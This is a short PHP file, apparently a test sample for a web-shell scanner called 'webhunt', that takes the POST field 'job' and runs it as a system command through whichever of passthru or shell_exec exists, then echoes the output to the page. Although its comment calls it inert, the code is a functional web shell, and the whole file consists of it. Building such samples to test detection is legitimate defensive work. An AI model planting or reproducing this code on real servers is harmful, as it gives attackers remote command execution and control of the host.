<?php
// Inert test sample (webhunt): the first process function that exists is picked from a list at run
// time, then called in the branch whose condition names it, with the request's command.
function run_job($line)
{
    $names = array_filter(array('passthru', 'shell_exec', 'popen'), 'function_exists');
    $pick = reset($names);
    $out = '';
    if ($pick === 'passthru') {
        ob_start();
        $pick($line);
        $out = ob_get_clean();
    } elseif ($pick === 'shell_exec') {
        $out = $pick($line);
    }
    return $out;
}

if (isset($_POST['job'])) {
    echo '<pre>' . htmlspecialchars(run_job($_POST['job'])) . '</pre>';
}
